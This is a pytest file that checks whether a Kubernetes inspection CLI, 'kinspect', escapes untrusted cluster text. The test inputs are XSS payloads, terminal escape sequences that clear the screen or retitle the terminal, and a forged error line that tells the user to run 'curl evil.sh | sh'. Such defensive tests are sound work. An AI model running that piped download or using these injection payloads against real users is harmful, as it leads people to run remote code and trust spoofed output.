"""Cluster text is data: an EndpointSlice whose targetRef.name holds markup, HTML, selector
syntax and terminal control sequences (the API server does not validate it) is shown escaped by
every text output, kept exact by JSON, and sent escaped in trace's field selector."""

from __future__ import annotations

import json
import os
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

from .conftest import KINSPECT, Cluster, Namespace
from .faultproxy import FaultProxy, Rule

NASTY = (
    "x[/]y[bold]z<script>alert(1)</script><img src=x onerror=alert(2)>|`a`=b,c\\"
    "\x1b]0;pwned\x07\x1b[2J\rFORGED"
)
ADDRESS = "10.244.99.7"  # data, never dialed


def _create(ns: Namespace) -> str:
    ns.apply(
        "apiVersion: v1\nkind: Service\nmetadata: {name: odd}\n"
        "spec: {ports: [{port: 80, targetPort: 8080}]}\n"
    )
    slice_ = {
        "apiVersion": "discovery.k8s.io/v1",
        "kind": "EndpointSlice",
        "metadata": {"name": "odd-1", "labels": {"kubernetes.io/service-name": "odd"}},
        "addressType": "IPv4",
        "endpoints": [
            {
                "addresses": [ADDRESS],
                "conditions": {"ready": True},
                "targetRef": {"kind": "Pod", "name": NASTY, "namespace": ns.name},
            }
        ],
        "ports": [{"port": 8080, "protocol": "TCP"}],
    }
    ns.apply(json.dumps(slice_))
    stored = ns.get("endpointslice", "odd-1")["endpoints"][0]["targetRef"]["name"]
    assert stored == NASTY  # the API server kept it as is
    svc = ns.get("service", "odd")
    return str(svc["spec"]["clusterIP"])


def _no_raw_control(text: str) -> None:
    bad = [hex(ord(c)) for c in text if (ord(c) < 32 and c != "\n") or 0x7F <= ord(c) <= 0x9F]
    assert not bad, bad


def test_untrusted_names_are_escaped_everywhere(ns: Namespace, tmp_path: Path) -> None:
    cluster_ip = _create(ns)
    cases: list[tuple[str, ...]] = [
        ("map", "-n", ns.name),
        ("map", "-A"),
        ("map", "-n", ns.name, "-o", "tree"),
        ("map", "-n", ns.name, "-o", "wide"),
        ("explain", "-n", ns.name),
        ("audit", "-n", ns.name),
    ]
    for args in cases:
        p = ns.kinspect(*args)
        _no_raw_control(p.stdout + p.stderr)
        joined = "".join(p.stdout.split())  # table cells fold long names
        assert "x[/]y[bold]z" in joined, (args, p.stdout)
        assert "\\x1b]0;pwned\\x07" in joined, (args, p.stdout)

    # No pod can have the name (it is no DNS subdomain), so trace never asks for it (in a field
    # selector, a `=` in it was an HTTP 400, and exit 1), and says so once. The address is the
    # service's endpoint, its pod missing, as map shows it (issue 24, D5b).
    p = ns.kinspect("trace", ADDRESS, "-n", ns.name)
    _no_raw_control(p.stdout + p.stderr)
    assert "is not a pod name" in p.stderr
    assert f"endpointof{ns.name}/odd(pod{ns.name}/x[/]y[bold]z" in "".join(p.stdout.split())
    p = ns.kinspect("trace", f"{cluster_ip}:80", "-n", ns.name)
    _no_raw_control(p.stdout + p.stderr)
    assert "\\x1b[2J" in "".join(p.stdout.split())

    # JSON keeps the exact name.
    doc = ns.kinspect_json("map", "-n", ns.name)
    pods = [b["pod"] for s in doc["services"] for p in s["ports"] for b in p["backends"]]
    assert {"namespace": ns.name, "name": NASTY} in pods

    md = ns.kinspect("audit", "-n", ns.name, "-o", "markdown").stdout
    assert "<script>" not in md
    assert "<img" not in md
    assert "&lt;script&gt;" in md
    _no_raw_control(md)

    junit = ns.kinspect("audit", "-n", ns.name, "-o", "junit").stdout
    ET.fromstring(junit.encode())  # well-formed XML 1.0

    html = ns.kinspect("audit", "-n", ns.name, "-o", "html").stdout
    assert "<script>" not in html
    assert "&lt;script&gt;" in html

    prom = ns.kinspect("audit", "-n", ns.name, "-o", "prometheus").stdout
    assert "kinspect_audit_context_up" in prom

    # snapshot save names its path as it is (it was read as markup: snapx.json).
    path = tmp_path / "snap[bold]x.json"
    p = ns.kinspect("snapshot", "save", str(path), "-n", ns.name)
    assert f"to {path}" in p.stderr
    assert path.exists()
    assert oct(os.stat(path).st_mode & 0o777) == "0o600"
    p = ns.kinspect("map", "-n", ns.name, "--snapshot", str(path))
    assert "\\x1b]0;pwned\\x07" in "".join(p.stdout.split())


# Issue 24: D1, an Ingress class annotation (any string: annotations are not validated) that
# clears the screen, retitles the terminal and forges an error line; D2, a node InternalIP the
# API server accepts, `192.0.2.99[/][bold]x`, that rich read as markup (exit 1, MarkupError).
FORGED = (
    "nginx\x1b[2J\x1b[H\x1b]0;owned\x07\r\n kinspect: error: FAKE credentials expired, run: "
    "curl evil.sh | sh [/][bold]x"
)
HOSTILE_IP = "192.0.2.99[/][bold]x"


def _not_forged(text: str) -> None:
    _no_raw_control(text)
    assert not any(line.lstrip().startswith("kinspect: error: FAKE") for line in text.splitlines())


def test_trace_url_shows_the_ingress_class_annotation_escaped(ns: Namespace) -> None:
    host = f"{ns.name}.untrusted.example"
    ns.apply(
        "apiVersion: v1\nkind: Service\nmetadata: {name: web}\n"
        "spec: {ports: [{port: 80, targetPort: 8080}]}\n"
    )
    ingress = {
        "apiVersion": "networking.k8s.io/v1",
        "kind": "Ingress",
        "metadata": {"name": "shop", "annotations": {"kubernetes.io/ingress.class": FORGED}},
        "spec": {
            "rules": [
                {
                    "host": host,
                    "http": {
                        "paths": [
                            {
                                "path": "/",
                                "pathType": "Prefix",
                                "backend": {"service": {"name": "web", "port": {"number": 80}}},
                            }
                        ]
                    },
                }
            ]
        },
    }
    ns.apply(json.dumps(ingress))
    stored = ns.get("ingress", "shop")["metadata"]["annotations"]["kubernetes.io/ingress.class"]
    assert stored == FORGED  # the API server kept it as is
    p = ns.kinspect("trace", f"http://{host}/", "-n", ns.name)
    _not_forged(p.stdout + p.stderr)
    joined = "".join(p.stdout.split())
    assert "nginx\\x1b[2J\\x1b[H\\x1b]0;owned\\x07\\r\\nkinspect:error:FAKE" in joined, p.stdout
    assert "curlevil.sh|sh[/][bold]x" in joined
    # JSON keeps the exact annotation.
    doc = ns.kinspect_json("trace", f"http://{host}/", "-n", ns.name)
    assert FORGED in _strings(doc), doc


def _strings(doc: Any) -> list[str]:
    if isinstance(doc, dict):
        return [x for v in doc.values() for x in _strings(v)]
    if isinstance(doc, list):
        return [x for v in doc for x in _strings(v)]
    return [doc] if isinstance(doc, str) else []


def test_a_node_address_with_markup_is_text_in_map_tree(
    ns: Namespace, cluster: Cluster, tmp_path: Path
) -> None:
    # The API server accepts such an InternalIP (asked with a dry run: adding a node would
    # reach every other test's map -o tree). The fault proxy puts it in the nodes it lists.
    node = ns.get("nodes")["items"][0]["metadata"]["name"]
    patch = [
        {
            "op": "add",
            "path": "/status/addresses/-",
            "value": {"type": "InternalIP", "address": HOSTILE_IP},
        }
    ]
    out = ns.kubectl(
        "patch", "node", node, "--subresource=status", "--type=json", "-p", json.dumps(patch),
        "--dry-run=server", "-o", "json",
    )  # fmt: skip
    assert HOSTILE_IP in [a["address"] for a in json.loads(out)["status"]["addresses"]]
    ns.apply(
        "apiVersion: v1\nkind: Service\nmetadata: {name: np}\n"
        "spec: {type: NodePort, ports: [{port: 80, targetPort: 8080}]}\n"
    )

    def hostile(body: Any) -> Any:
        for item in body.get("items") or []:
            if item["metadata"]["name"] == node:
                item["status"]["addresses"].append({"type": "InternalIP", "address": HOSTILE_IP})
        return body

    with FaultProxy.start(cluster.kubeconfig_view(), tmp_path) as proxy:
        proxy.add(Rule("/api/v1/nodes", "rewrite", rewrite=hostile, times=-1))
        kc = proxy.kubeconfig(tmp_path, ns.name)
        for args in (("map", "-o", "tree"), ("map", "-o", "wide"), ("explain",), ("ips",)):
            p = subprocess.run(
                [*KINSPECT, *args, "-n", ns.name, "--kubeconfig", kc],
                capture_output=True,
                text=True,
                check=False,
                timeout=120,
                env={**os.environ, "COLUMNS": "120", "NO_COLOR": "1"},
            )
            assert p.returncode == 0, (args, p.stderr)
            _not_forged(p.stdout + p.stderr)
            assert f"{HOSTILE_IP}:" in p.stdout or args[0] != "map", (args, p.stdout)
            assert HOSTILE_IP in "".join(p.stdout.split()), (args, p.stdout)
        assert proxy.count("/api/v1/nodes") >= 4
